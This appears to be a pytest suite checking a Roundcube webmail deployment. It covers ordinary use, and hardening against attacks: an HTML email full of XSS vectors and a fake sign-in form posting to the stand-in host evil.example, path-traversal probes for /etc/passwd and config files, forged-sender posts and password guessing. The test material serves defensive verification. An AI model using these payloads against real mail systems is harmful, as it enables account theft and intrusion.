"""Webmail as people use it, in a browser that stands outside; and as those use it who mean ill."""

from __future__ import annotations

import http.client
import json
import os
import re
import secrets
import smtplib
import socket
import ssl
import time
from collections.abc import Iterator
from datetime import UTC, datetime
from email import message_from_bytes, policy
from email.message import EmailMessage
from email.utils import format_datetime
from pathlib import Path
from urllib.parse import urlencode

import pytest

from mailwright.rehearsal import credentials
from mailwright.rehearsal.rehearse import Stage
from mailwright.rehearsal.world import ForeignMail
from support.browser import Browser, browser, in_lab
from support.webmail import Webmail

WEB, MAIL = "www.college.ac.uk", "mail.college.ac.uk"
URL = f"https://{WEB}/webmail/"
KARL = "k.marx@chem.college.ac.uk"
FOLDER = Path(os.environ["MOLECULE_EPHEMERAL_DIRECTORY"])
EVIL = "evil.example"

HOSTILE = f"""<html><head>
<meta http-equiv="refresh" content="0;url=https://{EVIL}/refresh"><base href="https://{EVIL}/">
<style>@import url(https://{EVIL}/import.css); body {{background: url(https://{EVIL}/background.png)}}</style>
<link rel="stylesheet" href="https://{EVIL}/link.css"><link rel="prefetch" href="https://{EVIL}/prefetch">
<link rel="dns-prefetch" href="//{EVIL}">
</head><body onload="top.ran=1"><p id="letter">The letter itself</p>
<script>top.ran=2</script><img src="x" onerror="top.ran=3"><img src="https://{EVIL}/pixel.png">
<svg onload="top.ran=4"><script>top.ran=5</script><image href="https://{EVIL}/svg.png"/></svg>
<svg><animate onbegin="top.ran=6" attributeName="x" dur="1s"/></svg>
<iframe src="https://{EVIL}/frame"></iframe><iframe srcdoc="&lt;script&gt;top.ran=7&lt;/script&gt;"></iframe>
<object data="https://{EVIL}/object"></object><embed src="https://{EVIL}/embed">
<form action="https://{EVIL}/form" id="trap"><input name="password" autofocus onfocus="top.ran=8">
<button>Sign in again</button></form>
<p><a href="javascript:top.ran=9">a link that is code</a></p>
<p><a href="data:text/html,&lt;script&gt;top.ran=10&lt;/script&gt;">a link that is a page</a></p>
<video src="https://{EVIL}/video" poster="https://{EVIL}/poster" autoplay></video><audio src="https://{EVIL}/audio">
</audio><math><mtext><table><mglyph><style><img src=x onerror="top.ran=11"></style></mglyph></table></mtext></math>
<div style="background-image: url('https://{EVIL}/style.png'); position: fixed; top: 0; left: 0">styled</div>
<details open ontoggle="top.ran=12"><summary>more</summary></details>
<a href="#" onclick="top.ran=13">a click</a></body></html>"""


@pytest.fixture(scope="module")
def passwords(stage: Stage) -> dict[str, str]:
    return {one.login: one.password for one in stage.prepared.credentials.accounts}


@pytest.fixture(scope="module")
def flags(stage: Stage) -> tuple[str, ...]:
    addresses = {host.name: str(host.addresses[0]) for host in stage.prepared.plan.hosts}
    return in_lab(addresses, [stage.prepared.credentials.files[f"{WEB}.pem"]])


@pytest.fixture(scope="module")
def window(stage: Stage, flags: tuple[str, ...]) -> Iterator[Browser]:
    with browser(prefix=stage.lab.vantage("outside", "outside").command_prefix(), flags=flags) as opened:
        yield opened


@pytest.fixture(scope="module")
def karl(window: Browser, passwords: dict[str, str]) -> Webmail:
    """Karl's webmail, signed in."""
    webmail = Webmail(window, URL)
    webmail.sign_in("km217", passwords["km217"])
    picture(window, "in-box")
    return webmail


def picture(window: Browser, name: str) -> None:
    """What it looks like, to be looked at."""
    (FOLDER / f"webmail-{name}.png").write_bytes(window.picture())


def arrive(
    stage: Stage,
    subject: str,
    text: str = "Words.",
    *,
    html: str = "",
    sender: str = ForeignMail.address,
    receipt: bool = False,
) -> str:
    """A message for Karl from outside; its mark. ``receipt``: it asks to be told when it is read."""
    mark = secrets.token_hex(8)
    message = EmailMessage()
    message["From"], message["To"] = f"Ada Outside <{sender}>", KARL
    message["Subject"], message["Message-ID"] = subject, f"<{mark}@{sender.partition('@')[2]}>"
    message["Date"] = format_datetime(datetime.now(UTC))
    if receipt:
        message["Disposition-Notification-To"] = sender
    message.set_content(html or text, subtype="html" if html else "plain")
    address = str(stage.prepared.plan.host(MAIL).addresses[0])
    with stage.lab.vantage("outside", "outside").enter(), smtplib.SMTP(address, 25, timeout=60) as client:
        client.ehlo("mail.foreign.example")
        client.sendmail(sender, [KARL], message.as_bytes())
    return mark


def mail_log(stage: Stage, host: str, word: str) -> list[str]:
    status, said = stage.lab.shell.run(host, "grep", "-ra", word, "/var/log/mail")
    return said.splitlines() if status == 0 else []


# ---- what people do


def test_somebody_signs_in_and_reads(stage: Stage, karl: Webmail) -> None:
    arrive(stage, "A question about coal", "How much is there?")
    karl.await_subject("A question about coal")
    assert "How much is there?" in karl.open("A question about coal")
    picture(karl.browser, "read")
    assert karl.browser.complaints() == []


def test_somebody_answers(stage: Stage, karl: Webmail) -> None:
    arrive(stage, "Another question", "And wool?")
    karl.await_subject("Another question")
    karl.open("Another question")
    karl.answer()
    mark = secrets.token_hex(8)
    karl.write(f"Enough. {mark}\n")
    picture(karl.browser, "answer")
    karl.send()
    answer = stage.lab.mail.wait_for(mark)
    assert answer is not None
    message = message_from_bytes(answer.content, policy=policy.default)
    assert message["Subject"] == "Re: Another question"
    assert message["From"].addresses[0].addr_spec == KARL
    assert message["In-Reply-To"]


def test_what_is_sent_outside_has_the_published_from_and_the_log_names_the_login(
    stage: Stage, karl: Webmail
) -> None:
    mark = secrets.token_hex(8)
    karl.compose(f"{ForeignMail.address},", "A letter", f"Dear Ada, {mark}")
    picture(karl.browser, "compose")
    karl.send()
    received = stage.lab.mail.wait_for(mark)
    assert received is not None
    assert received.sender == KARL
    message = message_from_bytes(received.content, policy=policy.default)
    sender = message["From"].addresses[0]
    assert (sender.display_name, sender.addr_spec) == ("Karl Marx", KARL)
    assert abs((message["Date"].datetime - datetime.now(UTC)).total_seconds()) < 300
    identifier = str(message["Message-ID"])
    assert re.fullmatch(r"<[^@<>\s]+@chem\.college\.ac\.uk>", identifier), identifier
    assert "Roundcube" not in received.content.decode("utf-8", "replace")
    outside = [str(one) for one in stage.lab.topology.node("outside").ips]
    assert not [one for one in outside if one.encode() in received.content.partition(b"\r\n\r\n")[0]]
    # AUDIT-1: the message, its queue id, the login
    (queued, *_) = mail_log(stage, MAIL, identifier.strip("<>"))
    queue_id = re.search(r"\b([0-9A-Za-z]{6,}): message-id=", queued)
    assert queue_id, queued
    assert any("sasl_username=km217" in line for line in mail_log(stage, MAIL, queue_id[1]))
    assert "A letter" in karl.subjects("Sent")


def test_only_ones_own_published_addresses_can_be_chosen(karl: Webmail) -> None:
    karl.go("_task=mail&_action=compose")
    senders = karl.senders()
    assert senders[0] == f"Karl Marx <{KARL}>"
    assert "Karl Marx <Karl.Marx@college.ac.uk>" in senders
    assert not [one for one in senders if "karlm@" in one]


def test_a_folder_is_made_and_a_message_moved(stage: Stage, karl: Webmail) -> None:
    name = f"Projects {secrets.token_hex(2)}"
    karl.make_folder(name)
    picture(karl.browser, "folders")
    arrive(stage, f"For {name}")
    karl.await_subject(f"For {name}")
    karl.move(f"For {name}", name)
    assert karl.subjects(name) == [f"For {name}"]
    assert f"For {name}" not in karl.subjects()


def test_out_of_office_answers(stage: Stage, karl: Webmail) -> None:
    reason = f"Away until Monday {secrets.token_hex(4)}"
    karl.out_of_office(reason)
    karl.await_said("saved successfully")
    picture(karl.browser, "out-of-office")
    arrive(stage, "Are you there?")
    answer = stage.lab.mail.wait_for(reason)
    assert answer is not None
    message = message_from_bytes(answer.content, policy=policy.default)
    assert message["From"].addresses[0].addr_spec.lower() == KARL
    karl.back_in_office()


def test_a_colleague_is_found_and_completed_to_the_full_published_address(karl: Webmail) -> None:
    assert karl.find("ada") == ["Ada Lovelace"]
    picture(karl.browser, "address-book")
    karl.go("_task=mail&_action=compose")
    assert karl.offered("bjo") == ["Björk Guðmundsdóttir <Bjork.Gudmundsdottir@college.ac.uk>"]
    picture(karl.browser, "completed")


def test_the_identities_are_not_ones_own_to_change(karl: Webmail) -> None:
    karl.go("_task=settings&_action=identities")
    picture(karl.browser, "identities")
    before = karl.browser.run("document.querySelector('#identities-table').innerText")
    karl.go("_task=mail&_action=compose")
    number = karl.browser.run("document.querySelector('#_from').value")
    forged = {"_name": "Rosa Luxemburg", "_email": "rosa.luxemburg@college.ac.uk", "_standard": 1}
    karl.post("_task=settings&_action=save-identity", _iid=number, **forged)
    karl.post("_task=settings&_action=save-identity", **forged)
    karl.post("_task=settings&_action=delete-identity", _iid=number, _remote=1)
    karl.go("_task=settings&_action=identities")
    assert karl.browser.run("document.querySelector('#identities-table').innerText") == before


def test_somebody_changes_their_password(stage: Stage, window: Browser, passwords: dict[str, str]) -> None:
    """The old one no longer signs in, the new one does; whoever does not know the old one changes nothing."""
    login, old, new = "sr120", passwords["sr120"], f"New-{secrets.token_hex(8)}"
    client = Client(stage, "campus")
    somebody = Webmail(window, URL)
    somebody.sign_out()
    try:
        somebody.sign_in(login, old)
        somebody.change_password("not-the-old-one", new)
        picture(window, "password-refused")
        assert client.sign_in(login, old)[0] == 302
        somebody.change_password(old, new)
        somebody.await_said("Successfully saved")
        picture(window, "password")
        await_status(client, login, old, 401)
        assert client.sign_in(login, new)[0] == 302
        somebody.change_password(new, old)
        somebody.await_said("Successfully saved")
        await_status(client, login, old, 302)
    finally:
        somebody.sign_out()
        somebody.sign_in("km217", passwords["km217"])


def await_status(client: Client, login: str, password: str, wanted: int) -> None:
    """Dovecot looks once in a second whether its files have changed."""
    end = time.monotonic() + 60
    while (status := client.sign_in(login, password)[0]) != wanted:
        assert time.monotonic() < end, status
        time.sleep(1)


# ---- what a message may do


def receipts(stage: Stage) -> int:
    """How many receipts the foreign mail host has been sent."""
    return sum(b"disposition-notification" in one.content for one in stage.lab.mail.received())


def settle(page: Browser) -> None:
    """Wait until a picture of our own that is not there has failed: what the page began before has run by then."""
    page.run(
        "(() => { window.settled = 0; const last = new Image(); "
        "last.onerror = () => setTimeout(() => { window.settled = 1 }, 500); last.src = 'none.png' })()"
    )
    page.await_("window.settled", seconds=60)


def test_a_hostile_message_runs_nothing_and_loads_nothing(stage: Stage, karl: Webmail) -> None:
    before = receipts(stage)  # probes send some
    arrive(stage, "Urgent", html=HOSTILE, sender=f"mallory@{ForeignMail.domain}", receipt=True)
    karl.await_subject("Urgent")
    assert "The letter itself" in karl.open("Urgent")
    settle(karl.browser)
    picture(karl.browser, "hostile")
    karl.refuse_receipt()
    assert karl.browser.run("window.ran") is None
    own = (URL, "data:", "blob:", "about:")
    assert [url for url in karl.browser.requests() if not url.startswith(own)] == []
    # what is clicked at does not run either
    links = "[...document.querySelectorAll('#messagebody a')]"
    for index in range(karl.browser.run(f"{links}.length")):
        karl.browser.run(f"{links}[{index}].click()")
    settle(karl.browser)
    assert karl.browser.run("window.ran") is None
    assert karl.browser.run("location.href").startswith(URL)
    assert karl.browser.run("document.querySelectorAll('#messagebody script, #messagebody iframe').length") == 0
    forms = "[...document.querySelectorAll('#messagebody form')].map(one => one.getAttribute('action'))"
    assert not [one for one in karl.browser.run(forms) if one and EVIL in one]
    # nobody was told that it has been read
    assert receipts(stage) == before


def test_pictures_from_elsewhere_are_asked_for_when_the_reader_asks(stage: Stage, karl: Webmail) -> None:
    subject = f"A picture {secrets.token_hex(2)}"
    arrive(stage, subject, html=f'<p>Look</p><img src="https://{EVIL}/wanted.png">')
    karl.await_subject(subject)
    karl.open(subject)
    assert not [url for url in karl.browser.requests() if EVIL in url]
    karl.allow_pictures()
    karl.browser.await_("document.querySelector('#messagebody img')?.src.includes('wanted.png')")
    assert [url for url in karl.browser.requests() if EVIL in url] == [f"https://{EVIL}/wanted.png"]


# ---- who means ill


def test_no_form_made_by_hand_writes_as_somebody_else(stage: Stage, karl: Webmail) -> None:
    marks = []
    for sender in (
        "rosa.luxemburg@college.ac.uk",
        "Rosa Luxemburg <rosa.luxemburg@college.ac.uk>",
        f"Karl <{KARL}>, rosa.luxemburg@college.ac.uk",
        "karlm@chem.college.ac.uk",
        "someone@elsewhere.example",
        "999999",
    ):
        marks.append(secrets.token_hex(8))
        assert send_by_hand(karl, sender, marks[-1]) != "sent", sender
    mark = secrets.token_hex(8)  # the twin: the same form, as oneself
    assert send_by_hand(karl, KARL, mark) == "sent"
    assert stage.lab.mail.wait_for(mark) is not None
    # it was sent after the others, and has come
    assert not [one for one in stage.lab.mail.received() if any(each.encode() in one.content for each in marks)]


def send_by_hand(karl: Webmail, sender: str, mark: str) -> str:
    karl.go("_task=mail&_action=compose")
    _status, said = karl.post(
        "_task=mail&_action=send",
        _id=karl.browser.run("rcmail.env.compose_id"),
        _from=sender,
        _to=ForeignMail.address,
        _subject="By hand",
        _message=mark,
        _is_html=0,
        _framed=1,
    )
    return "sent" if "sent_successfully" in said else said


class Client:
    """A client of the web server without a browser, which looks at the certificate."""

    def __init__(self, stage: Stage, place: str) -> None:
        authority = stage.prepared.credentials.files[credentials.AUTHORITY].decode("ascii")
        self._trust = ssl.create_default_context(cadata=authority)
        self._vantage = stage.lab.vantage(place, "outside" if place == "outside" else "inside")
        self._address = str(stage.prepared.plan.host(WEB).addresses[0])
        self.address = str(stage.lab.topology.node(place).ips[0])

    def ask(
        self, method: str, path: str, body: str = "", cookies: str = ""
    ) -> tuple[int, http.client.HTTPMessage, str]:
        with self._vantage.enter():
            raw = socket.create_connection((self._address, 443), 60)
        with self._trust.wrap_socket(raw, server_hostname=WEB) as secured:
            kind = "Content-Type: application/x-www-form-urlencoded\r\n" if body else ""
            cookie = f"Cookie: {cookies}\r\n" if cookies else ""
            head = f"{method} {path} HTTP/1.1\r\nHost: {WEB}\r\n{kind}{cookie}Connection: close\r\n"
            secured.sendall(f"{head}Content-Length: {len(body)}\r\n\r\n{body}".encode())
            answer = http.client.HTTPResponse(secured)
            answer.begin()
            return answer.status, answer.msg, answer.read().decode("utf-8", "replace")

    def sign_in(
        self, login: str, password: str, query: str = "_task=login", form: dict[str, str] | None = None
    ) -> tuple[int, float]:
        """The status (302: signed in), and seconds that it took."""
        _status, head, page = self.ask("GET", "/webmail/")
        cookies = "; ".join(one.partition(";")[0] for one in head.get_all("Set-Cookie", []))
        token = re.search(r'name="_token" value="(\w+)"', page)
        assert token, page
        said = {"_token": token[1], "_task": "login", "_action": "login", "_user": login, "_pass": password}
        started = time.monotonic()
        status, _head, _page = self.ask("POST", f"/webmail/?{query}", urlencode({**said, **(form or {})}), cookies)
        return status, time.monotonic() - started


def test_guessing_is_refused_slowed_and_told_and_the_owner_still_gets_in(
    stage: Stage, passwords: dict[str, str]
) -> None:
    guesser, owner = Client(stage, "outside"), Client(stage, "campus")
    before, right = owner.sign_in("rl204", passwords["rl204"])
    assert before == 302
    answers = [guesser.sign_in("rl204", f"wrong-{secrets.token_hex(3)}") for _ in range(6)]
    assert [status for status, _ in answers] == [401] * 6
    after, again = owner.sign_in("rl204", passwords["rl204"])
    assert after == 302
    # the same requests, with the right password: a busy machine makes all of them longer
    assert min(seconds for _, seconds in answers) > min(right, again) + 1
    assert answers[-1][1] > min(seconds for _, seconds in answers[:3]) + 1
    lines = [line for line in mail_log(stage, MAIL, "imap-login") if "user=<rl204>" in line]
    assert [line for line in lines if f"rip={guesser.address}" in line]
    assert [line for line in lines if f"rip={owner.address}" in line and "Logged in" in line]


def test_sign_ins_are_limited_and_no_other_spelling_is_a_way_round(stage: Stage, passwords: dict[str, str]) -> None:
    client = Client(stage, "outside")
    for query in ("", "_task=x&_task=login", "_task=l%6fgin", "_task=login%20", "_action=login"):
        status, _seconds = client.sign_in("km217", passwords["km217"], query)
        assert status != 302, query
    statuses = [client.ask("POST", "/webmail/?_task=login", "_user=nobody")[0] for _ in range(25)]
    assert 429 in statuses
    assert client.ask("GET", "/webmail/")[0] == 200


def test_nothing_of_roundcube_is_there_but_its_pages(stage: Stage) -> None:
    client = Client(stage, "outside")
    status, head, page = client.ask("GET", "/webmail/")
    assert status == 200
    for path in (
        "installer/",
        "installer/index.php",
        "config/config.inc.php",
        "index.php",
        "SQL/sqlite.initial.sql",
        "logs/errors.log",
        "temp/",
        "bin/update.sh",
        "plugins/mailwright/mailwright.php",
        "plugins/mailwright/apply.php",
        "plugins/../config/config.inc.php",
        "skins/../../../etc/passwd.css",
        "program/js/../../config/config.inc.php",
        "composer.json",
        "program/lib/Roundcube/rcube.php",
    ):
        status, _head, body = client.ask("GET", f"/webmail/{path}")
        assert status in (400, 404), path
        assert "<?php" not in body
    assert client.ask("GET", "/webmail/plugins/mailwright/look.css")[0] == 200
    assert head["Strict-Transport-Security"] == "max-age=31536000"
    said = head["Content-Security-Policy"]
    assert len(head.get_all("Content-Security-Policy")) == 1
    for part in ("object-src 'none'", "frame-ancestors 'self'", "form-action 'self'", "base-uri 'self'"):
        assert part in said
    assert "http" not in said
    assert "*" not in said
    for cookie in head.get_all("Set-Cookie"):
        assert {"secure", "httponly"} <= {part.strip().lower() for part in cookie.split(";")}
        assert "samesite=lax" in cookie.lower()
        assert "path=/webmail/" in cookie.lower()
    assert "X-Powered-By" not in head
    assert not re.search(r"\d+\.\d+", head["Server"])
    assert not re.search(r"1\.6\.\d|1062\d|1060\d", page)


def test_the_host_keeps_its_key_and_database_to_itself(stage: Stage) -> None:
    status, said = stage.lab.shell.run(
        WEB,
        "stat",
        "-c",
        "%a %U %n",
        "/var/lib/mailwright-webmail/key",
        "/var/lib/mailwright-webmail/roundcube.db",
        "/var/lib/mailwright-webmail",
    )
    assert status == 0
    assert {line.split()[0] for line in said.splitlines()} <= {"600", "700"}
    assert {line.split()[1] for line in said.splitlines()} == {"mailwright-webmail"}
    status, said = stage.lab.shell.run(WEB, "journalctl", "-t", "roundcube", "--no-pager", "-o", "cat")
    assert [line for line in said.splitlines() if "open_basedir" in line or "plugins/mailwright" in line] == []


def test_identities_follow_the_description_at_each_apply(stage: Stage, karl: Webmail) -> None:
    """One that is not in the description goes, one that is missing comes."""
    forged = "UPDATE identities SET email=?, name='Rosa' WHERE email='Karl.Marx@college.ac.uk'"
    program = f"""import sqlite3
with sqlite3.connect("/var/lib/mailwright-webmail/roundcube.db") as database:
    database.execute({json.dumps(forged)}, ("rosa.luxemburg@college.ac.uk",))
"""
    stage.lab.shell.run(WEB, "python3", "-c", program)
    karl.go("_task=mail&_action=compose")
    assert [one for one in karl.senders() if "rosa" in one]
    apply = ("runuser", "-u", "mailwright-webmail", "--", "php", "/var/lib/roundcube/plugins/mailwright/apply.php")
    status, said = stage.lab.shell.run(WEB, *apply)
    assert (status, said.strip()) == (0, "2 identities changed")
    karl.go("_task=mail&_action=compose")
    assert "Karl Marx <Karl.Marx@college.ac.uk>" in karl.senders()
    assert not [one for one in karl.senders() if "rosa" in one]
    assert stage.lab.shell.run(WEB, *apply)[1].strip() == "0 identities changed"


@pytest.mark.parametrize("unit", ["roundcube-gc", "roundcube-cleandb"])
def test_what_is_past_is_cleaned_away(stage: Stage, unit: str) -> None:
    """Debian's services, as the user whose the database is: old sessions, and what was deleted."""
    status, said = stage.lab.shell.run(WEB, "systemctl", "start", f"{unit}.service")
    assert status == 0, said
    assert stage.lab.shell.run(WEB, "systemctl", "is-enabled", f"{unit}.timer") == (0, "enabled\n")
